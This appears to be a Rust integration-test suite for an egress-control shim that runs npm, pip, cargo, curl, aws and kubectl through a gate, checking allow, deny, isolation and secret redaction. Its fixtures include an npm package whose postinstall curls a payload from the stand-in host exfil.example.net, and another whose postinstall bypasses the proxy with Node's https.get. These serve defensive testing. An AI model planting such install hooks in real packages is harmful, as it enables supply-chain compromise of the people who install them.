//! The real clients end to end: npm, pip, cargo, curl, aws and kubectl,
//! through the shims install.sh sets up, with a private audit log, fresh
//! caches, and the real registries this machine reaches (the npm registry,
//! PyPI, crates.io). Other hosts don't resolve here, which is fine: a denial
//! happens before any dial, and an observed host that can't be reached shows
//! as an allow row answered 502.
//!
//! The tests that run a real client are `#[ignore]`d, so a plain `cargo
//! test` passes offline on a machine without them; `.ci/run` runs them
//! (`cargo test -- --ignored`), and there a missing client fails its test.
//! The installed egress-demo needs neither a client nor the network (an
//! unreachable host is an answered 502) and stays in the default suite.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::util::install;
use crate::util::real_clients::{self, invocation, need, only_start, Client, CLIENT_TIMEOUT};
use crate::util::{closed_port, command, Log, Outcome, Row, Running};

/// Asserts every egress row is an allowed tunnel to one of `hosts` on 443,
/// and that there is at least one.
fn assert_allowed_only(log: &Log, egress: &[&Row], hosts: &[&str]) {
    assert!(
        !egress.is_empty(),
        "no egress rows: the client did not use the gate\n{}",
        log
    );
    for row in egress {
        let host = row["host"].as_str().unwrap_or("");
        assert!(hosts.contains(&host), "unexpected host {host}:\n{}", log);
        assert_eq!(row["port"], 443, "{row}");
        assert_eq!(row["decision"], "allow", "{row}");
        assert_eq!(row["status"], 200, "{row}");
    }
}

fn npm_project(c: &Client) -> PathBuf {
    let proj = c.dir("proj");
    fs::write(
        proj.join("package.json"),
        r#"{"name":"proj","version":"1.0.0","private":true}"#,
    )
    .unwrap();
    proj
}

fn npm_args<'a>(cache: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
    let mut args = rest.to_vec();
    args.extend([
        "--cache",
        cache,
        "--no-audit",
        "--no-fund",
        "--update-notifier=false",
    ]);
    args
}

/// A local package `NAME-1.0.0.tgz` with `scripts` (the JSON members of
/// its `scripts` object) and `files` beside its package.json.
fn npm_tarball(c: &Client, name: &str, scripts: &str, files: &[(&str, &str)]) -> PathBuf {
    let manifest = format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{{{scripts}}}}}"#);
    real_clients::npm_tarball(c, name, &manifest, files)
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_install_reaches_only_the_npm_registry() {
    need("npm");
    let c = Client::new();
    let proj = npm_project(&c);
    let cache = c.dir("npm-cache");
    let mut cmd = c.cmd(
        "npm",
        &npm_args(cache.to_str().unwrap(), &["install", "is-number"]),
    );
    cmd.current_dir(&proj);
    let out = c.run(cmd);
    check_eq!(out, out.code(), Some(0), "npm install failed");
    assert!(
        proj.join("node_modules/is-number/package.json").exists(),
        "is-number was not installed"
    );
    let log = c.log();
    let (_, egress, end) = invocation(&log, "npm");
    assert_allowed_only(&log, &egress, &["registry.npmjs.org"]);
    assert_eq!(end["exit_code"], 0, "{end}");
    assert_eq!(end["denied"], 0, "{end}");
    assert_eq!(end["allowed"], egress.len(), "{end}");
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_postinstall_that_curls_an_unlisted_host_is_denied() {
    need("npm");
    need("curl");
    let c = Client::new();
    // A local package whose postinstall fetches a payload: the case the gate exists for.
    let tarball = npm_tarball(
        &c,
        "evil-postinstall",
        r#""postinstall":"curl -sS --fail -o /dev/null https://exfil.example.net/payload""#,
        &[],
    );
    let proj = npm_project(&c);
    let cache = c.dir("npm-cache");
    let mut cmd = c.cmd(
        "npm",
        &npm_args(cache.to_str().unwrap(), &["install", tarball.to_str().unwrap()]),
    );
    cmd.current_dir(&proj);
    let out = c.run(cmd);
    check!(
        out,
        out.code().is_some_and(|code| code != 0),
        "the install must fail when its postinstall is denied"
    );
    let log = c.log();
    let (id, egress, end) = invocation(&log, "npm");
    let denied: Vec<&&Row> = egress
        .iter()
        .filter(|r| r["host"] == "exfil.example.net")
        .collect();
    check!(
        out,
        !denied.is_empty(),
        "no row for exfil.example.net under npm's audit id"
    );
    for row in &denied {
        assert_eq!(row["decision"], "deny", "{row}");
        assert_eq!(row["status"], 403, "{row}");
        assert_eq!(row["port"], 443, "{row}");
        assert_eq!(row["tool"], "npm", "{row}");
    }
    assert!(end["denied"].as_u64().unwrap() >= 1, "{end}");
    let lines = out.guard_lines();
    check!(
        out,
        lines
            .iter()
            .any(|l| l.contains("exfil.example.net:443") && l.contains(&id)),
        "the shim's cli-guard: line must name the host and the audit id"
    );
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_against_a_plaintext_registry_gets_405_and_no_downgrade() {
    need("npm");
    let c = Client::new();
    let proj = npm_project(&c);
    let cache = c.dir("npm-cache");
    let args = npm_args(
        cache.to_str().unwrap(),
        &["install", "is-odd", "--registry", "http://registry.npmjs.org/"],
    );
    let mut cmd = c.cmd("npm", &args);
    cmd.current_dir(&proj);
    let out = c.run(cmd);
    check!(
        out,
        out.code().is_some_and(|code| code != 0),
        "npm must fail against a plaintext registry"
    );
    let log = c.log();
    let (_, egress, _) = invocation(&log, "npm");
    check!(out, !egress.is_empty(), "no egress rows");
    for row in &egress {
        assert_eq!(
            row["status"], 405,
            "every request must be refused, never downgraded: {row}"
        );
        assert_eq!(row["decision"], "deny", "{row}");
        assert_eq!(row["host"], "registry.npmjs.org", "{row}");
        assert_eq!(row["port"], 80, "{row}");
        assert_ne!(row["method"], "CONNECT", "{row}");
    }
}

/// npm through its shim in strict mode, as a user gets it (the default).
fn strict_npm(c: &Client, proj: &Path, args: &[&str]) -> Outcome {
    let cache = c.dir("npm-cache");
    let mut cmd = c.cmd("npm", &npm_args(cache.to_str().unwrap(), args));
    cmd.current_dir(proj).env_remove("CLI_GUARD_STRICT");
    c.run(cmd)
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_install_in_strict_mode_is_isolated_and_reaches_only_the_npm_registry() {
    need("npm");
    let c = Client::new();
    let proj = npm_project(&c);
    let out = strict_npm(&c, &proj, &["install", "is-number"]);
    check_eq!(out, out.code(), Some(0), "npm install failed in strict mode");
    assert!(
        proj.join("node_modules/is-number/package.json").exists(),
        "is-number was not installed"
    );
    let log = c.log();
    let start = only_start(&log, "npm");
    assert_eq!(start["isolation"], "netns", "{start}");
    let (_, egress, end) = invocation(&log, "npm");
    assert!(!egress.is_empty(), "no egress rows\n{}", log);
    for row in &egress {
        assert_eq!(row["host"], "registry.npmjs.org", "{}", log);
        assert_eq!(row["decision"], "allow", "{row}");
    }
    assert_eq!(end["exit_code"], 0, "{end}");
    assert_eq!(end["denied"], 0, "{end}");
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_postinstall_with_node_https_get_cannot_reach_pypi_in_strict_mode() {
    need("npm");
    need("node");
    let c = Client::new();
    // Node's own https.get ignores HTTPS_PROXY (without NODE_USE_ENV_PROXY,
    // which a newer Node obeys): the escape strict mode exists for.
    let tarball = npm_tarball(
        &c,
        "escape-postinstall",
        r#""postinstall":"env -u NODE_USE_ENV_PROXY node postinstall.js""#,
        &[(
            "postinstall.js",
            r#"require("https").get("https://pypi.org/", (r) => { console.log("reached pypi.org", r.statusCode); process.exit(0); })
  .on("error", (e) => { console.error("refused", e.code); process.exit(1); });
"#,
        )],
    );
    let proj = npm_project(&c);
    let out = strict_npm(
        &c,
        &proj,
        &["install", "--foreground-scripts", tarball.to_str().unwrap()],
    );
    check!(
        out,
        out.code().is_some_and(|code| code != 0),
        "the install must fail when its postinstall cannot reach pypi.org"
    );
    check!(
        out,
        !out.stdout().contains("reached pypi.org"),
        "the postinstall reached pypi.org"
    );
    let log = c.log();
    let start = only_start(&log, "npm");
    assert_eq!(start["isolation"], "netns", "{start}");
    let (id, egress, _) = invocation(&log, "npm");
    let pypi: Vec<&&Row> = egress.iter().filter(|r| r["host"] == "pypi.org").collect();
    check!(out, !pypi.is_empty(), "no row for pypi.org under npm's audit id");
    for row in &pypi {
        assert_eq!(row["decision"], "deny", "{row}");
        assert_eq!(row["method"], "dns", "{row}");
    }
    check!(
        out,
        out.guard_lines()
            .iter()
            .any(|l| l.contains("reach pypi.org directly") && l.contains(&id)),
        "the stderr summary names pypi.org and the audit id"
    );
}

/// pip, without this machine's local wheel cache or index overrides.
fn pip_cmd(c: &Client, args: &[&str]) -> Command {
    let mut cmd = c.cmd("pip", args);
    for var in [
        "PIP_FIND_LINKS",
        "PIP_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "PIP_NO_INDEX",
        "PIP_PROXY",
    ] {
        cmd.env_remove(var);
    }
    cmd
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn pip_download_from_pypi_is_allowed() {
    need("pip");
    let c = Client::new();
    let dl = c.dir("dl");
    let out = c.run(pip_cmd(
        &c,
        &[
            "download",
            "six",
            "--no-deps",
            "--no-cache-dir",
            "-d",
            dl.to_str().unwrap(),
        ],
    ));
    check_eq!(out, out.code(), Some(0), "pip download failed");
    let wheels: Vec<_> = fs::read_dir(&dl)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    check!(
        out,
        wheels.iter().any(|w| w.to_string_lossy().starts_with("six-")),
        "no six download in {wheels:?}"
    );
    let log = c.log();
    let (_, egress, end) = invocation(&log, "pip");
    assert_allowed_only(&log, &egress, &["pypi.org", "files.pythonhosted.org"]);
    assert_eq!(end["exit_code"], 0, "{end}");
}

/// `pip download six` into `dl` from `index`, without retries: an index
/// that fails, fails at once.
fn pip_download_from<'a>(dl: &'a Path, index: &'a str) -> [&'a str; 10] {
    [
        "download",
        "six",
        "--no-deps",
        "--no-cache-dir",
        "--retries",
        "0",
        "-d",
        dl.to_str().unwrap(),
        "--index-url",
        index,
    ]
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn pip_pointed_at_an_unlisted_index_is_denied() {
    need("pip");
    let c = Client::new();
    let dl = c.dir("dl");
    let args = pip_download_from(&dl, "https://pypi.example.net/simple");
    let out = c.run(pip_cmd(&c, &args));
    check!(out, out.code().is_some_and(|code| code != 0), "pip must fail");
    let log = c.log();
    let (_, egress, _) = invocation(&log, "pip");
    check!(out, !egress.is_empty(), "no egress rows");
    for row in &egress {
        assert_eq!(row["host"], "pypi.example.net", "{row}");
        assert_eq!(row["decision"], "deny", "{row}");
        assert_eq!(row["status"], 403, "{row}");
    }
    check!(
        out,
        out.guard_lines()
            .iter()
            .any(|l| l.contains("pypi.example.net:443")),
        "no denial line"
    );
}

/// The whole log, read as one text, holds none of `secrets`, and the run's
/// start row says its argv was redacted.
fn assert_log_keeps_no_secret(c: &Client, out: &Outcome, tool: &str, secrets: &[&str]) {
    let text = fs::read_to_string(&c.audit).unwrap_or_else(|e| panic!("{}: {e}", c.audit.display()));
    for secret in secrets {
        check!(
            out,
            !text.contains(secret),
            "{secret:?} is in the audit log:\n{text}"
        );
    }
    let log = c.log();
    let (_, _, end) = invocation(&log, tool);
    check!(out, end["exit_code"].is_i64(), "the run ended: {end}");
    check_eq!(
        out,
        only_start(&log, tool)["argv_redacted"],
        true,
        "start.argv_redacted"
    );
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn pip_with_a_password_in_its_index_url_keeps_it_out_of_the_log() {
    need("pip");
    let c = Client::new();
    let dl = c.dir("dl");
    // A dead loopback index: pip fails, after its start row is written.
    let index = format!("https://alice:s3cret-pip-4f1a@127.0.0.1:{}/simple", closed_port());
    let args = pip_download_from(&dl, &index);
    let out = c.run(pip_cmd(&c, &args));
    check!(out, out.code().is_some_and(|code| code != 0), "pip must fail");
    assert_log_keeps_no_secret(&c, &out, "pip", &["s3cret-pip-4f1a"]);
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn npm_with_a_token_and_a_password_in_its_arguments_keeps_them_out_of_the_log() {
    need("npm");
    let c = Client::new();
    let proj = npm_project(&c);
    let cache = c.dir("npm-cache");
    let port = closed_port();
    let registry = format!("https://u:npm-pass-8c2e@127.0.0.1:{port}/");
    let token = "npm_abcdefghijklmnopqrstuvwxyz0123456789";
    let auth = format!("--//registry.npmjs.org/:_authToken={token}");
    let args = npm_args(
        cache.to_str().unwrap(),
        &[
            "view",
            "is-odd",
            "version",
            "--fetch-retries=0",
            "--registry",
            &registry,
            &auth,
        ],
    );
    let mut cmd = c.cmd("npm", &args);
    cmd.current_dir(&proj);
    let out = c.run(cmd);
    check!(out, out.code().is_some_and(|code| code != 0), "npm must fail");
    assert_log_keeps_no_secret(&c, &out, "npm", &["npm-pass-8c2e", token]);
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn cargo_fetch_with_a_fresh_cargo_home_is_allowed() {
    need("cargo");
    let c = Client::new();
    let krate = c.dir("crate");
    // [workspace] keeps cargo from adopting the checkout this runs inside.
    fs::write(
        krate.join("Cargo.toml"),
        "[package]\nname = \"fetch-probe\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n\n[workspace]\n",
    )
    .unwrap();
    fs::create_dir_all(krate.join("src")).unwrap();
    fs::write(krate.join("src/main.rs"), "fn main() {}\n").unwrap();
    let mut cmd = c.cmd("cargo", &["fetch"]);
    cmd.current_dir(&krate).env("CARGO_HOME", c.dir("cargo-home"));
    let out = c.run(cmd);
    check_eq!(out, out.code(), Some(0), "cargo fetch failed");
    let log = c.log();
    let (_, egress, end) = invocation(&log, "cargo");
    assert_allowed_only(&log, &egress, &["index.crates.io", "static.crates.io"]);
    assert_eq!(end["exit_code"], 0, "{end}");
    // The real cargo is rustup's argv[0] proxy: the shim must run the PATH
    // entry as found, not its canonical target (rustup itself).
    let real = only_start(&log, "cargo")["real_path"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(real.ends_with("/cargo"), "real_path {real} is not the PATH entry");
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn aws_s3_ls_is_observed_and_logged() {
    need("aws");
    let c = Client::new();
    let mut cmd = c.cmd("aws", &["s3", "ls"]);
    cmd.env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLEEXAMPLE")
        .env("AWS_SECRET_ACCESS_KEY", "not-a-real-secret")
        .env("AWS_DEFAULT_REGION", "us-east-1")
        .env("AWS_MAX_ATTEMPTS", "1")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_CONFIG_FILE", c.tmp.path().join("no-aws-config"))
        .env(
            "AWS_SHARED_CREDENTIALS_FILE",
            c.tmp.path().join("no-aws-credentials"),
        );
    let out = c.run(cmd);
    let log = c.log();
    let (_, egress, end) = invocation(&log, "aws");
    check!(out, !egress.is_empty(), "aws made no CONNECT through the gate");
    for row in &egress {
        assert_eq!(row["mode"], "observe", "{row}");
        assert_eq!(row["decision"], "allow", "{row}");
        assert!(row["host"].as_str().unwrap().ends_with("amazonaws.com"), "{row}");
        assert_eq!(row["port"], 443, "{row}");
        // Unreachable from here: the row shows it; 200 if it ever resolves.
        let status = row["status"].as_u64().unwrap();
        assert!([200, 502, 504].contains(&status), "{row}");
    }
    assert_eq!(end["denied"], 0, "{end}");
    assert_eq!(
        end["exit_code"].as_i64(),
        out.code().map(i64::from),
        "the shim's exit is aws's"
    );
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn kubectl_get_pods_is_observed_and_logged() {
    need("kubectl");
    let c = Client::new();
    let mut cmd = c.cmd(
        "kubectl",
        &[
            "--server=https://k8s.example.invalid:6443",
            "--insecure-skip-tls-verify",
            "--request-timeout=10s",
            "get",
            "pods",
        ],
    );
    cmd.env("KUBECONFIG", c.tmp.path().join("no-kubeconfig"));
    let out = c.run(cmd);
    check!(
        out,
        out.code().is_some_and(|code| code != 0),
        "kubectl cannot succeed against an unreachable server"
    );
    let log = c.log();
    let (_, egress, end) = invocation(&log, "kubectl");
    check!(
        out,
        !egress.is_empty(),
        "kubectl made no CONNECT through the gate"
    );
    for row in &egress {
        assert_eq!(row["mode"], "observe", "{row}");
        assert_eq!(row["decision"], "allow", "{row}");
        assert_eq!(row["host"], "k8s.example.invalid", "{row}");
        assert_eq!(row["port"], 6443, "{row}");
        assert_eq!(row["status"], 502, "{row}");
        assert!(
            row["reason"].as_str().unwrap().contains("cannot resolve"),
            "{row}"
        );
    }
    assert_eq!(end["denied"], 0, "{end}");
}

#[test]
#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
fn curl_through_the_gate_is_a_real_client_too() {
    need("curl");
    let c = Client::new();
    let mut cmd = c.cmd(
        install::plain().join("bin/cli-guard").to_str().unwrap(),
        &[
            "run",
            "--as",
            "npm",
            "--",
            "curl",
            "-sS",
            "--fail",
            "-o",
            "/dev/null",
            "https://registry.npmjs.org/is-number",
        ],
    );
    cmd.env_remove("CURL_HOME");
    let out = c.run(cmd);
    check_eq!(out, out.code(), Some(0), "curl through the gate failed");
    let log = c.log();
    let (_, egress, _) = invocation(&log, "npm");
    assert_allowed_only(&log, &egress, &["registry.npmjs.org"]);
    let close = log.rows().kind("egress_close");
    assert_eq!(close.len(), egress.len(), "{}", log);
    assert!(
        close.iter().all(|r| r["bytes_down"].as_u64().unwrap() > 0),
        "{}",
        log
    );
}

#[test]
fn egress_demo_as_installed_shows_all_three_modes() {
    let demo = install::plain().join("bin/egress-demo");
    for (mode, expect) in [
        ("allowed", &["200", "502", "504"][..]),
        ("denied", &["403"][..]),
        ("observe", &["200", "502", "504"][..]),
    ] {
        let mut cmd = command(&demo);
        cmd.arg(mode)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let out = Running::spawn(cmd, None, None).wait_for(CLIENT_TIMEOUT);
        check_eq!(out, out.code(), Some(0), "egress-demo {mode} failed");
        let lines: Vec<String> = out.stdout().lines().map(str::to_owned).collect();
        check!(out, !lines.is_empty(), "no status lines");
        for line in &lines {
            check!(
                out,
                line.starts_with(mode) && expect.iter().any(|s| line.contains(&format!("HTTP/1.1 {s} "))),
                "unexpected line {line:?}"
            );
        }
        let printed = Log::parse(&out.stderr, "egress-demo stderr");
        check_eq!(
            out,
            printed.rows().kind("egress").len(),
            lines.len(),
            "one row per dial"
        );
    }
}
